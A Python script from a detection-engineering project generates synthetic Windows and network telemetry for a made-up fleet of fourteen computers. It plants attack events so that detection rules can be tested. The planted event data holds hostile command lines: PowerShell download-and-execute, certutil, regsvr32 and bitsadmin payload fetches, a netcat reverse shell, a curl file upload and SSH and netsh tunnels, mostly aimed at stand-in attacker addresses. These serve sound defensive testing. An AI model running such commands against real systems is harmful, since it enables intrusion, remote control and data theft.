#!/usr/bin/env python3
"""Writes the sample telemetry in `samples/`: a made-up fleet of fourteen computers over three days.

    python3 scripts/make_samples.py            # rewrites samples/ beside this folder
    python3 scripts/make_samples.py --check    # writes nothing; fails when samples/ is not what it would write

The same script gives the same bytes. Every planted event names the behaviours of `detections/` that
must fire on it; the expected hits (`crates/tercel/tests/samples_expected.jsonl`, outside `samples/` so
that nobody hunts over it) are counted from these names, never from a run of tercel.
Standard library only.
"""

import argparse
import csv
import gzip
import io
import json
import re
import sys
from pathlib import Path

sys.dont_write_bytecode = True  # a checkout stays clean
import shapes  # noqa: E402
from shapes import connection, process  # noqa: E402

REPOSITORY = Path(__file__).resolve().parent.parent
SYSTEM32 = "C:\\Windows\\System32\\"
POWERSHELL = SYSTEM32 + "WindowsPowerShell\\v1.0\\powershell.exe"
OFFICE = "C:\\Program Files\\Microsoft Office\\root\\Office16\\"
CMD = SYSTEM32 + "cmd.exe"

# Computer -> (collector, user). A collector is one file, or for Defender's portal one per table.
FLEET = {
    "WS-0001": ("nxlog", "akessler"), "WS-0002": ("nxlog", "bhorvath"), "WS-0003": ("nxlog", "cmeyer"),
    "WS-0004": ("nxlog", "dnovak"), "WS-0005": ("winlogbeat6", "eschmid"), "WS-0006": ("winlogbeat6", "fkeller"),
    "WS-0007": ("winlogbeat8", "gbrandt"), "WS-0008": ("winlogbeat8", "hsuter"), "WS-0009": ("winlogbeat8", "iweber"),
    "WS-0010": ("security", "jfrei"), "WS-0011": ("portal", "kmoser"), "WS-0012": ("portal", "lgraf"),
    "WS-0013": ("stream", "mroth"), "WS-0014": ("stream", "nvogel"),
}
SYSMON_COLLECTORS = {"nxlog", "winlogbeat6", "winlogbeat8"}
SHAPE = {"nxlog": shapes.flat, "winlogbeat6": shapes.beat6, "winlogbeat8": shapes.ecs,
         "security": shapes.security, "portal": shapes.portal, "stream": shapes.stream}


class Dice:
    """A generator of numbers that no version of Python changes (the constants are Knuth's)."""

    def __init__(self, seed):
        self.state = seed

    def below(self, n):
        self.state = (self.state * 6364136223846793005 + 1442695040888963407) & (2**64 - 1)
        return (self.state >> 33) % n

    def pick(self, items):
        return items[self.below(len(items))]


class Fleet:
    def __init__(self):
        self.dice = Dice(20260511)
        self.events = []  # (event, collector, behaviours)

    def add(self, computer, event, behaviours=()):
        collector, user = FLEET[computer]
        event["host"] = computer + ".corp.example"
        if event["user"] == "CORP\\mlange":
            event["user"] = "CORP\\" + user
        if event["kind"] == "connection":
            event["local_ip"] = "10.20.4." + str(10 + int(computer[-4:]))
        self.events.append((event, collector, tuple(behaviours)))

    def attack(self, computer, time, what, *behaviours):
        """`what` is a connection or a process; `behaviours` are all that must fire on it."""
        what["time"] = time
        self.add(computer, what, behaviours)


def background(fleet):
    """A working day of each computer, three times. Nothing here may fire a rule."""
    dice = fleet.dice
    browser = "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe"
    teams = "C:\\Program Files\\WindowsApps\\MSTeams_24\\ms-teams.exe"
    sites = [("22.14.3.8", "www.news.example"), ("22.90.1.77", "shop.vendor.example"), ("28.4.4.20", "wiki.partner.example"),
             ("22.14.9.4", "mail.web.example"), ("28.61.2.2", "docs.vendor.example")]
    network = "NT AUTHORITY\\NETWORK SERVICE"
    system = "NT AUTHORITY\\SYSTEM"

    def one():
        ip, name = dice.pick(sites)
        return dice.pick([
            lambda: connection("", browser, ip, 443, name=name),
            lambda: connection("", browser, ip, 443, name=name),
            lambda: connection("", browser, ip, 80, name=name),
            lambda: connection("", OFFICE + "OUTLOOK.EXE", "28.9.9.1", 443, name="outlook.mail.example"),
            lambda: connection("", OFFICE + "OUTLOOK.EXE", "28.9.9.2", 993, name="imap.mail.example"),
            lambda: connection("", OFFICE + "WINWORD.EXE", "28.9.9.3", 443, name="templates.office.example"),
            lambda: connection("", teams, "28.9.8.8", 3478, proto="udp"),
            lambda: connection("", SYSTEM32 + "svchost.exe", "10.20.0.5", 53, proto="udp", user=network, name="dc01.corp.example"),
            lambda: connection("", SYSTEM32 + "svchost.exe", "28.7.7.7", 443, user=system, name="update.os.example"),
            lambda: connection("", SYSTEM32 + "lsass.exe", "10.20.0.5", 88, user=system, name="dc01.corp.example"),
            lambda: connection("", SYSTEM32 + "lsass.exe", "10.20.0.5", 389, user=system, name="dc01.corp.example"),
            lambda: connection("", "System", "10.20.0.12", 445, user=system, name="files01.corp.example"),
            lambda: connection("", "System", "10.20.0.44", 50000 + dice.below(9000), user=system, outbound=False, local_port=445),
            lambda: connection("", POWERSHELL, "10.20.0.31", 5985, name="admin01.corp.example"),
            lambda: connection("", "C:\\Program Files\\Vendor Agent\\agent.exe", "28.33.0.1", 8443, user=system),
            lambda: process("", browser, f'"{browser}" --single-argument https://{name}/'),
            lambda: process("", OFFICE + "EXCEL.EXE", f'"{OFFICE}EXCEL.EXE" "C:\\Users\\Public\\Documents\\Q2.xlsx"'),
            lambda: process("", SYSTEM32 + "nslookup.exe", "nslookup intranet.corp.example", parent=CMD),
            lambda: process("", SYSTEM32 + "certutil.exe", "certutil -hashfile setup.exe SHA256", parent=CMD),
            lambda: process("", SYSTEM32 + "msiexec.exe", "msiexec /i \\\\files01\\packages\\reader.msi /qb"),
            lambda: process("", POWERSHELL, "powershell -File C:\\Scripts\\inventory.ps1", parent=SYSTEM32 + "svchost.exe",
                            user=system, integrity="System"),
            lambda: process("", SYSTEM32 + "curl.exe", "curl -fsSO https://docs.vendor.example/manual.pdf", parent=CMD),
        ])()

    for day in (11, 12, 13):
        for computer in FLEET:
            for _ in range(11):
                event = one()
                event["time"] = (f"2026-05-{day}T{7 + dice.below(11):02d}:{dice.below(60):02d}:{dice.below(60):02d}"
                                 f".{dice.below(1000):03d}")
                event["pid"] = 1000 + 4 * dice.below(4000)
                if event["kind"] == "connection" and event["outbound"]:
                    event["local_port"] = 49700 + dice.below(12000)
                event["sent"], event["received"] = 300 + dice.below(4000), 900 + dice.below(90000)
                fleet.add(computer, event)


def attacks(fleet):
    a = fleet.attack
    c2, drop = "33.10.1.1", "C:\\Users\\Public\\svchelp.exe"
    # A document starts it all on WS-0003.
    a("WS-0003", "2026-05-12T09:14:03.120", connection("", OFFICE + "WINWORD.EXE", c2, 8088),
      "office_uncommon_port", "rare_outgoing")
    a("WS-0003", "2026-05-12T09:14:05.406",
      process("", POWERSHELL, f"powershell -nop -w hidden IEX (New-Object Net.WebClient).DownloadString('https://{c2}/a')",
              parent=OFFICE + "WINWORD.EXE"), "powershell_download")
    a("WS-0003", "2026-05-12T09:14:06.118", connection("", POWERSHELL, c2, 443), "interpreter_common_port")
    a("WS-0003", "2026-05-12T09:15:41.733", connection("", drop, c2, 4444), "suspicious_folder", "backdoor_port", "rare_outgoing")
    a("WS-0003", "2026-05-12T09:31:10.002", process("", drop, "svchelp.exe client 33.10.1.2:8443 R:socks", parent=CMD), "tunnel_tool")
    # Help from the programs of Windows on WS-0005.
    a("WS-0005", "2026-05-12T10:02:11.500",
      process("", SYSTEM32 + "certutil.exe", "certutil -urlcache -f http://33.10.2.2/k.txt C:\\ProgramData\\k.dll", parent=CMD),
      "certutil_download")
    a("WS-0005", "2026-05-12T10:02:11.911", connection("", SYSTEM32 + "certutil.exe", "33.10.2.2", 80, name="files.attacker.example"),
      "interpreter_common_port")
    a("WS-0005", "2026-05-12T10:05:00.047",
      process("", SYSTEM32 + "regsvr32.exe", "regsvr32 /s /u /i:http://33.10.2.2/s.sct scrobj.dll", parent=CMD), "remote_code_argument")
    a("WS-0005", "2026-05-12T10:05:00.690", connection("", SYSTEM32 + "regsvr32.exe", "33.10.2.2", 80, name="files.attacker.example"),
      "interpreter_common_port", "proxy_execution_internet")
    # An implant of WS-0007 calls home three times an hour, by name; once it forgets the name.
    implant = "C:\\Users\\gbrandt\\AppData\\Roaming\\nvd\\nvd.exe"
    for hour in range(8, 18):
        for minute in (4, 24, 44):
            a("WS-0007", f"2026-05-12T{hour:02d}:{minute:02d}:{hour:02d}.300",
              connection("", implant, "33.10.3.3", 443, name="cdn.update.example"))
    a("WS-0007", "2026-05-12T18:04:18.300", connection("", implant, "33.10.3.9", 443), "https_without_name")
    # DNS instead of HTTP on WS-0008.
    a("WS-0008", "2026-05-13T08:20:00.100",
      process("", SYSTEM32 + "nslookup.exe", "nslookup -q=txt c.attacker.example 8.8.8.8", parent=CMD), "dns_tunnel_client")
    a("WS-0008", "2026-05-13T08:20:00.333", connection("", SYSTEM32 + "nslookup.exe", "8.8.8.8", 53, proto="udp", name="dns.google"),
      "direct_public_dns")
    # Windows Security saw WS-0010.
    a("WS-0010", "2026-05-13T09:00:01.000",
      process("", SYSTEM32 + "bitsadmin.exe", "bitsadmin /transfer j https://33.10.5.5/n.exe C:\\Users\\Public\\nc.exe", parent=CMD),
      "bits_download")
    a("WS-0010", "2026-05-13T09:01:40.000", process("", "C:\\Users\\Public\\nc.exe", "nc.exe 33.10.5.5 4444 -e cmd.exe", parent=CMD),
      "netcat_shell")
    a("WS-0010", "2026-05-13T09:01:40.500", connection("", "C:\\Users\\Public\\nc.exe", "33.10.5.5", 4444),
      "suspicious_folder", "backdoor_port", "rare_outgoing")
    # Defender saw WS-0011 and WS-0012.
    a("WS-0011", "2026-05-13T10:10:10.000", connection("", SYSTEM32 + "mshta.exe", "33.10.6.6", 8080, name="cdn.attacker.example"),
      "proxy_execution_internet")
    a("WS-0011", "2026-05-13T10:20:00.000", connection("", "C:\\Python312\\python.exe", "33.10.6.7", 587, name="smtp.mail.example"),
      "mail_from_script")
    a("WS-0011", "2026-05-13T10:25:00.000", connection("", "C:\\Python312\\python.exe", "33.10.6.8", 443, name="api.telegram.org"),
      "web_service_from_script")
    a("WS-0011", "2026-05-13T10:40:00.000",
      process("", SYSTEM32 + "curl.exe", "curl -F file=@C:\\Users\\kmoser\\o.zip https://33.10.6.9/u", parent=CMD), "upload_command")
    a("WS-0012", "2026-05-13T11:00:00.000",
      connection("", "C:\\Users\\lgraf\\Downloads\\AnyDesk.exe", "33.10.7.7", 443, name="relay.rmm.example"),
      "remote_access_tool", "suspicious_folder")
    a("WS-0012", "2026-05-13T11:05:00.000", connection("", "C:\\ProgramData\\ng\\agent2.exe", "33.10.7.8", 443, name="tunnel.eu.ngrok.com"),
      "tunnel_service")
    a("WS-0012", "2026-05-13T11:07:00.000",
      process("", SYSTEM32 + "OpenSSH\\ssh.exe", "ssh -N -R 13389:localhost:3389 u@33.10.7.9", parent=CMD), "ssh_tunnel")
    a("WS-0012", "2026-05-13T11:09:00.000",
      process("", SYSTEM32 + "netsh.exe", "netsh interface portproxy add v4tov4 listenport=8080 connectaddress=10.20.0.9 connectport=3389",
              parent=CMD, integrity="High"), "netsh_portproxy")
    # Defender's stream saw WS-0013.
    a("WS-0013", "2026-05-13T13:00:00.000", connection("", "C:\\Users\\mroth\\Desktop\\tor.exe", "33.10.8.8", 9050),
      "proxy_port", "rare_outgoing")
    a("WS-0013", "2026-05-13T13:02:00.000", connection("", "C:\\ProgramData\\upd\\sync.exe", "1.1.1.1", 443, name="one.one.one.one"),
      "encrypted_dns")
    a("WS-0013", "2026-05-13T13:05:00.000",
      process("", SYSTEM32 + "esentutl.exe", "esentutl /y \\\\33.10.8.9\\d\\a.exe /d C:\\ProgramData\\a.exe /o", parent=CMD),
      "seldom_downloader")
    # The harvest leaves from WS-0002; Zeek sees how much it is.
    a("WS-0002", "2026-05-13T14:30:00.000",
      connection("", SYSTEM32 + "ftp.exe", "33.10.9.9", 21, name="ftp.attacker.example", sent=31_000_000, received=210_000),
      "ftp_from_script")
    # Not every hit is an attack: an administrator and a web interface.
    a("WS-0001", "2026-05-11T15:10:00.000", connection("", POWERSHELL, "28.9.1.4", 443, name="graph.cloud.example"),
      "interpreter_common_port")


# ---- what must fire ---------------------------------------------------------------------------------

def rule_files():
    """path -> (behaviour, kind of rule): `a/office.asim.kql` -> (`office`, `asim.kql`)."""
    out = {}
    for path in sorted((REPOSITORY / "detections").rglob("*")):
        name, _, kind = path.name.partition(".")
        if kind in ("sigma.yml", "kql", "asim.kql", "sumo"):
            out[path.relative_to(REPOSITORY / "detections").as_posix()] = (name, kind)
    return out


def rule_id(path):
    text = (REPOSITORY / "detections" / path).read_text()
    return re.search(r"^(?:// )?id: (\S+)$", text, re.M).group(1)


def rare_programs(events):
    """The groups of `rare_outgoing`, counted the plain way."""
    devices = {}
    for e, _, _ in events:
        if (e["kind"] == "connection" and e["outbound"] and e["proto"] == "tcp" and shapes.public(e["ip"])
                and e["name"] == "-" and e["port"] not in (80, 443) and e["image"].lower().endswith(".exe")):
            devices.setdefault(shapes.basename(e["image"]).lower(), set()).add(e["host"])
    return sum(len(hosts) < 3 for hosts in devices.values())


def expected(fleet):
    sysmon = [x for x in fleet.events if x[1] in SYSMON_COLLECTORS]
    for path, (behaviour, kind) in rule_files().items():
        # Sumo's rules name the source category of Sysmon; the other languages see every source.
        seen = sysmon if kind == "sumo" else fleet.events
        if behaviour == "rare_outgoing" and kind != "sigma.yml":
            count = rare_programs(seen)
        elif behaviour == "rare_outgoing":
            # The candidates for Sigma leave out the folders of installed software, and so Word.
            count = sum(behaviour in b and "Program Files" not in e["image"] for e, _, b in seen)
        elif behaviour in ("steady_beacon", "large_upload"):
            count = 1
        else:
            count = sum(behaviour in b for _, _, b in seen)
        if (behaviour, kind) == ("backdoor_port", "asim.kql"):
            count *= 2  # ASIM also takes the gateway's log, which saw each of these connections once more
        if count:
            yield {"rule": rule_id(path), "path": path, "count": count}


# ---- files ------------------------------------------------------------------------------------------

def lines(rows):
    return "".join(json.dumps(row) + "\n" for row in rows)


def csv_text(rows):
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=list(rows[0]), lineterminator="\n")
    writer.writeheader()
    writer.writerows(rows)
    return out.getvalue()


def zeek_log(events):
    head = ["#separator \\x09", "#set_separator\t,", "#empty_field\t(empty)", "#unset_field\t-", "#path\tconn",
            "#open\t2026-05-14-00-00-00", "#fields\t" + "\t".join(n for n, _ in shapes.ZEEK_FIELDS),
            "#types\t" + "\t".join(t for _, t in shapes.ZEEK_FIELDS)]
    rows = [shapes.zeek_tsv_line(shapes.zeek(e, i)) for i, e in enumerate(events)]
    return "\n".join(head + rows + ["#close\t2026-05-14-00-00-00"]) + "\n"


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--check", action="store_true", help="compare only; exit 1 when a file differs")
    check = parser.parse_args().check

    fleet = Fleet()
    background(fleet)
    attacks(fleet)
    fleet.events.sort(key=lambda x: x[0]["time"])

    rows = {}
    for number, (event, collector, _) in enumerate(fleet.events, 1):
        key = (collector, event["kind"]) if collector == "portal" else (collector, None)
        rows.setdefault(key, []).append(SHAPE[collector](event, number))

    samples = REPOSITORY / "samples"
    texts = {
        samples / "sysmon/nxlog.jsonl": lines(rows["nxlog", None]),
        samples / "sysmon/winlogbeat6.jsonl": lines(rows["winlogbeat6", None]),
        samples / "sysmon/winlogbeat8.jsonl.gz": lines(rows["winlogbeat8", None]),
        samples / "security/security.jsonl": lines(rows["security", None]),
        samples / "defender/DeviceNetworkEvents.csv": csv_text(rows["portal", "connection"]),
        samples / "defender/DeviceProcessEvents.jsonl": lines(rows["portal", "process"]),
        samples / "defender/streaming_api.jsonl": lines(rows["stream", None]),
        samples / "zeek/conn.log": zeek_log([e for e, _, _ in fleet.events
                                             if e["kind"] == "connection" and e["outbound"] and shapes.public(e["ip"])]),
        REPOSITORY / "crates/tercel/tests/samples_expected.jsonl": lines(expected(fleet)),
    }
    different = []
    for path, text in texts.items():
        data = text.encode()
        if check:
            # Compressed files are compared by content: zlib versions may pack the same text differently.
            there = path.read_bytes() if path.exists() else b""
            if (gzip.decompress(there) if there and path.suffix == ".gz" else there) != data:
                different.append(path.relative_to(REPOSITORY).as_posix())
            continue
        if path.suffix == ".gz":
            # No name and no time in the header: the bytes depend on the events alone.
            packed = io.BytesIO()
            with gzip.GzipFile(filename="", mode="wb", fileobj=packed, mtime=0) as zipped:
                zipped.write(data)
            data = packed.getvalue()
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
    if different:
        sys.exit("not what scripts/make_samples.py writes: " + ", ".join(different))


if __name__ == "__main__":
    main()
